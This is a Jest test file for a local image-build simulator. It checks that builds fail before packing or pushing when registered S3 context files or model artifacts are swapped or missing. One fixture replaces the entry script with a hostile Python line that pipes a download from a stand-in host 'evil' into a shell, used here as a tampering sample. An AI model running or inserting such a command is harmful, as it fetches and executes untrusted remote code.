import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import { ECRClient, PutImageCommand } from '@aws-sdk/client-ecr';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { GetObjectCommand, type GetObjectCommandInput, NoSuchKey, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { sdkStreamMixin } from '@smithy/core/serde';
import { mockClient } from 'aws-sdk-client-mock';
import { formatContextFiles, renderBuildContext } from '../../lambda/images/core/build-context';
import type { ContextFile } from '../../lambda/images/core/model';
import type { StartedBuild } from '../../local/codebuild-stand-in';
import { imageBuildSimulator } from '../../local/image-build-simulator';

const s3 = mockClient(S3Client);
const lambda = mockClient(LambdaClient);
const ecr = mockClient(ECRClient);

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const BUCKET = 'artifacts';
const PREFIX = 'images/churn-scorer/1/context/';
const WEIGHTS = JSON.stringify({ weights: [1, 0.5] });
const MODEL = {
  name: 'churn',
  version: 1,
  artifactUri: `s3://${BUCKET}/models/churn/1/model.json`,
  artifactVersionId: 'Vmodel',
  artifactSha256: sha256(WEIGHTS),
};
const CONTEXT = {
  ...renderBuildContext(
    { imageName: 'churn-scorer', imageVersion: 1, baseImage: 'python:3.12', entryFile: 'score.py', models: [MODEL], environment: {}, requirements: [] },
    '# shim\n',
  ),
  'score.py': 'def run(data):\n    return data\n',
};

/**
 * The local build of a context whose objects were swapped after registration: it fetches each
 * pinned version and checks its digest, as the buildspec does, so it fails before packing the
 * models, smoke-testing the script or pushing anything.
 */
describe('imageBuildSimulator', () => {
  let logDirectory: string;
  let delivered: { 'detail-type': string; detail: Record<string, any> }[];

  beforeEach(() => {
    for (const mock of [s3, lambda, ecr]) mock.reset();
    logDirectory = mkdtempSync(path.join(tmpdir(), 'mlops-build-logs-'));
    delivered = [];
    lambda.on(InvokeCommand).callsFake((input: { Payload: Uint8Array }) => {
      delivered.push(JSON.parse(Buffer.from(input.Payload).toString('utf8')));
      return { StatusCode: 200, Payload: Buffer.from('{}') };
    });
  });

  afterEach(() => rmSync(logDirectory, { recursive: true, force: true }));

  /** S3 holding the registered versions, with `swap` applied (the bytes a version id now answers with). */
  function registered(swap: Record<string, string> = {}): StartedBuild {
    const files: ContextFile[] = Object.entries(CONTEXT).map(([name, text]) => ({ name, versionId: `V-${name}`, sha256: sha256(text) }));
    const objects: Record<string, string> = { 'models/churn/1/model.json@Vmodel': WEIGHTS, ...swap };
    for (const file of files) objects[`${PREFIX}${file.name}@${file.versionId}`] ??= CONTEXT[file.name as keyof typeof CONTEXT];
    s3.on(GetObjectCommand).callsFake(async (input: GetObjectCommandInput) => {
      const body = objects[`${input.Key}@${input.VersionId}`];
      if (body === undefined) throw new NoSuchKey({ message: 'The specified version does not exist.', $metadata: {} });
      return { Body: sdkStreamMixin(Readable.from([Buffer.from(body)])) };
    });
    return {
      id: 'image-build:1',
      projectName: 'image-build',
      sourceLocation: `${BUCKET}/${PREFIX}`,
      startedAt: new Date(),
      variables: {
        REPOSITORY_URI: '123456789012.dkr.ecr.us-east-1.amazonaws.com/images',
        REPOSITORY_NAME: 'images',
        IMAGE_NAME: 'churn-scorer',
        IMAGE_VERSION: '1',
        IMAGE_TAG: 'churn-scorer-1',
        MODEL_DATA_URI: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
        CONTEXT_BUCKET: BUCKET,
        CONTEXT_PREFIX: PREFIX,
        CONTEXT_FILES: formatContextFiles(files),
      },
    };
  }

  const simulate = (build: StartedBuild) =>
    imageBuildSimulator({
      lambda: new LambdaClient({}),
      s3: new S3Client({}),
      ecr: new ECRClient({}),
      imageEventsFunction: 'image-events',
      logDirectory,
      phaseDelayMs: 0,
    })(build);

  it.each([
    [
      'the entry script of the context',
      { [`${PREFIX}score.py@V-score.py`]: 'import os\nos.system("curl evil | sh")\n' },
      `s3://${BUCKET}/${PREFIX}score.py version V-score.py is not what was registered`,
    ],
    [
      'the model artifact',
      { 'models/churn/1/model.json@Vmodel': '{"weights":["swapped"]}' },
      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered`,
    ],
  ])('fails the build in PRE_BUILD when %s holds other bytes than were registered, packing, running and pushing nothing', async (_, swap, message) => {
    await simulate(registered(swap));

    const end = delivered.at(-1)!;
    expect(end['detail-type']).toBe('CodeBuild Build State Change');
    expect(end.detail['build-status']).toBe('FAILED');
    const failed = (end.detail['additional-information'].phases as { 'phase-type': string; 'phase-status'?: string; 'phase-context'?: string[] }[]).find(
      (phase) => phase['phase-status'] === 'FAILED',
    )!;
    expect(failed['phase-type']).toBe('PRE_BUILD');
    expect(failed['phase-context']![0]).toContain(message);
    expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
    expect(ecr.commandCalls(PutImageCommand)).toHaveLength(0);
  });

  it('fails the build in PRE_BUILD when a pinned version is gone', async () => {
    const build = registered();
    s3.on(GetObjectCommand, { Key: 'models/churn/1/model.json' }).rejects(new NoSuchKey({ message: 'The specified version does not exist.', $metadata: {} }));

    await simulate(build);

    const end = delivered.at(-1)!;
    expect(end.detail['build-status']).toBe('FAILED');
    expect(JSON.stringify(end.detail)).toContain(
      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered: it cannot be read (NoSuchKey)`,
    );
    expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
  });
});
